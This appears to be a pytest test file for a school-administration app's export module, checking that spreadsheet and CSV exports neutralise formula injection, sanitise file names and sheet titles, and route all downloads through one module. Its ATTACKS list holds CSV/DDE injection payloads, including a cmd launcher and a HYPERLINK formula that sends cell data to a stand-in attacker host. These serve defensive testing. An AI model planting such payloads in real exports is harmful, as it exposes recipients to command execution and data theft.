"""The one place where exported files are written: no user text leaves as a formula."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from opora.core.exports import (
    csv_bytes,
    export_filename,
    looks_like_formula,
    sheet_append,
    sheet_header,
    sheet_title,
    workbook_bytes,
    workbook_new,
    xml_text,
)

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_is_plain_text_in_xlsx(text: str) -> None:
    book, sheet = workbook_new("Список")
    sheet_header(sheet, ["Наименование"])
    sheet.append([text])
    cell = load_workbook(io.BytesIO(workbook_bytes(book))).active["A2"]
    assert cell.value == text
    assert cell.data_type == "s"
    assert cell.quotePrefix


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_gets_an_apostrophe_in_csv(text: str) -> None:
    rows = list(csv.reader(io.StringIO(csv_bytes([[text]]).decode("utf-8-sig")), delimiter=";"))
    assert rows[0][0] == "'" + text


def test_numbers_and_ordinary_text_stay_as_they_are() -> None:
    for text in ("-5", "+7,5", "12%", "МБОУ СОШ № 5", "2024/25"):
        assert not looks_like_formula(text)
    book, sheet = workbook_new("Лист")
    sheet.append(["-5", 3, "Школа"])
    row = load_workbook(io.BytesIO(workbook_bytes(book))).active[1]
    assert [c.value for c in row] == ["-5", 3, "Школа"]
    assert not any(c.quotePrefix for c in row)
    text = csv_bytes([["Школа", 1.25, True, None]]).decode("utf-8-sig")
    assert text.strip() == "Школа;1,25;да;"


def test_export_file_names_are_russian_and_safe() -> None:
    name = export_filename("Дорожная карта", 'МБОУ "СОШ" № 5 / филиал', extension="docx")
    assert name == "Дорожная карта — МБОУ СОШ № 5 филиал.docx"
    assert export_filename("", extension=".xlsx") == "Опора.xlsx"
    assert len(export_filename("Я" * 500, extension="pdf")) <= 124
    # Cut by bytes: «№» and «—» take three bytes each, and file systems count bytes.
    long = export_filename(*["№ 5"] * 60, extension="docx")
    assert len(long.encode()) <= 200 and long.endswith("№ 5.docx")


def test_control_characters_pasted_from_word_do_not_stop_a_workbook() -> None:
    book, sheet = workbook_new("Лист")
    sheet_append(sheet, ["строка\x0bдругая\x07", 5])
    row = load_workbook(io.BytesIO(workbook_bytes(book))).active[1]
    assert [c.value for c in row] == ["строка\nдругая", 5]
    assert xml_text("a\x00b\x0cc\td\ne") == "ab\nc\td\ne"


def test_error_looking_text_stays_text_and_every_sheet_prints_on_a4() -> None:
    book, sheet = workbook_new("Лист")
    sheet.append(["#N/A", "#REF!"])
    second = book.create_sheet("Второй")
    second.page_setup.paperSize = second.PAPERSIZE_A3
    loaded = load_workbook(io.BytesIO(workbook_bytes(book)))
    cells = list(loaded.active[1])
    assert [(c.value, c.data_type) for c in cells] == [("#N/A", "s"), ("#REF!", "s")]
    # Excel's paper size codes: 9 is A4, 8 is A3 (kept when an export chooses it).
    assert int(loaded.active.page_setup.paperSize) == 9
    assert int(loaded["Второй"].page_setup.paperSize) == 8


def test_write_only_workbooks_are_refused_because_their_cells_cannot_be_checked() -> None:
    from openpyxl import Workbook

    with pytest.raises(TypeError):
        workbook_bytes(Workbook(write_only=True))


def test_csv_checks_any_value_as_the_text_it_is_written_as() -> None:
    import datetime

    from django.utils.functional import lazy

    lazy_text = lazy(lambda: "=1+1", str)()
    text = csv_bytes([[lazy_text, datetime.date(2024, 9, 1), 7, -3]]).decode("utf-8-sig")
    assert text.strip() == "'=1+1;2024-09-01;7;-3"


def test_sheet_titles_excel_refuses_are_mended() -> None:
    assert sheet_title("1. Родители [5–9]: итог/сводка?") == "1. Родители 5–9 итог сводка"
    assert sheet_title("") == "Лист"
    assert sheet_title("'Итоги'") == "Итоги"
    assert len(sheet_title("Я" * 40)) == 31


# --- No export bypasses the one place --------------------------------------------------------

OPORA = Path(__file__).resolve().parents[2]
# The one place itself, and files that only make test or benchmark inputs.
ALLOWED = {"core/exports.py", "core/web.py", "core/documents.py"}
DOWNLOAD_TYPES = ("csv", "spreadsheet", "wordprocessing", "pdf", "octet-stream", "excel")
FILE_WRITERS = {"write_csv", "write_excel", "to_csv", "to_excel"}
OTHER_WRITERS = {"xlsxwriter", "xlwt", "pyexcel", "odf"}


def export_violations(source: str, path: str) -> list[str]:
    """Where `source` writes a workbook, a CSV, a Word or PDF document or a download response
    other than through opora.core.exports / documents / web."""
    tree = ast.parse(source)
    problems: list[str] = []
    from_module: dict[str, str] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module:
            for alias in node.names:
                from_module[alias.asname or alias.name] = node.module
        modules = [a.name for a in node.names] if isinstance(node, ast.Import) else []
        if isinstance(node, ast.ImportFrom):
            modules = [node.module or ""]
        for module in modules:
            if module.split(".")[0] in OTHER_WRITERS:
                problems.append(f"{path}:{node.lineno}: {module} (use opora.core.exports)")

    def dotted(func: ast.expr) -> str:
        if isinstance(func, ast.Name):
            return f"{from_module.get(func.id, '')}.{func.id}".lstrip(".")
        if isinstance(func, ast.Attribute):
            return f"{dotted(func.value)}.{func.attr}"
        return ""

    for node in ast.walk(tree):
        where = f"{path}:{getattr(node, 'lineno', 0)}"
        text = node.value if isinstance(node, ast.Constant) else None
        if isinstance(text, str) and "content-disposition" in text.lower():
            problems.append(f"{where}: Content-Disposition (use core.web.download)")
        if not isinstance(node, ast.Call):
            continue
        name = dotted(node.func)
        last = name.rsplit(".", 1)[-1]
        if last == "Workbook" and ("openpyxl" in name or name == "Workbook"):
            problems.append(f"{where}: Workbook() (use core.exports.workbook_new)")
        elif name in ("csv.writer", "csv.DictWriter"):
            problems.append(f"{where}: {name} (use core.exports.csv_bytes)")
        elif last in FILE_WRITERS and isinstance(node.func, ast.Attribute):
            problems.append(f"{where}: .{last}() (use core.exports)")
        elif last == "FPDF":
            problems.append(f"{where}: FPDF() (use core.documents.pdf_new)")
        elif last == "Document" and "docx" in name and not node.args and not node.keywords:
            problems.append(f"{where}: docx.Document() (use core.documents.docx_new)")
        elif last in ("FileResponse", "StreamingHttpResponse"):
            problems.append(f"{where}: {last} (use core.web.download or attachment)")
        elif last == "HttpResponse":
            content_types = [k.value for k in node.keywords if k.arg == "content_type"]
            content_types += node.args[1:2]
            text = " ".join(ast.unparse(c) for c in content_types).lower()
            if any(kind in text for kind in DOWNLOAD_TYPES):
                problems.append(f"{where}: HttpResponse of a file (use core.web.download)")
    return problems


def test_the_scan_finds_each_way_around_the_one_place() -> None:
    bad = """
import csv, docx
import xlsxwriter
from openpyxl import Workbook
from fpdf import FPDF
from django.http import FileResponse, HttpResponse
book = Workbook()
writer = csv.writer(stream)
frame.write_excel("x.xlsx")
pdf = FPDF()
document = docx.Document()
response = HttpResponse(data, content_type="text/csv")
response["Content-Disposition"] = 'attachment; filename="x.csv"'
FileResponse(file)
"""
    found = export_violations(bad, "x.py")
    assert len(found) == 9, found
    fine = "import docx\nsource = docx.Document(io.BytesIO(data))\nHttpResponse('ok')\n"
    assert export_violations(fine, "x.py") == []


def test_no_module_writes_a_file_for_users_outside_the_one_place() -> None:
    problems = []
    for file in sorted(OPORA.rglob("*.py")):
        relative = file.relative_to(OPORA).as_posix()
        if (
            relative in ALLOWED
            or "/tests/" in relative
            or relative.endswith(("bench.py", "conftest.py"))
            or "/migrations/" in relative
        ):
            continue
        problems += export_violations(file.read_text(encoding="utf-8"), relative)
    assert problems == []


# --- The import wizard's template -------------------------------------------------------------


@pytest.mark.parametrize(
    ("persona", "status"),
    [("analyst", 200), ("coordinator", 200), ("director_a", 404), ("anonymous", 302)],
)
def test_import_template_is_named_for_what_it_loads(world, persona, status) -> None:
    from opora.core.tests.helpers import download_name

    response = world.client(persona).get("/imports/registry.schools/template.xlsx")
    assert response.status_code == status
    if status == 200:
        assert download_name(response) == "Шаблон загрузки — Реестр школ.xlsx"
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert sheet.title == "Реестр школ"
        assert sheet["A1"].value and sheet["A1"].font.bold
        assert int(sheet.page_setup.paperSize) == 9
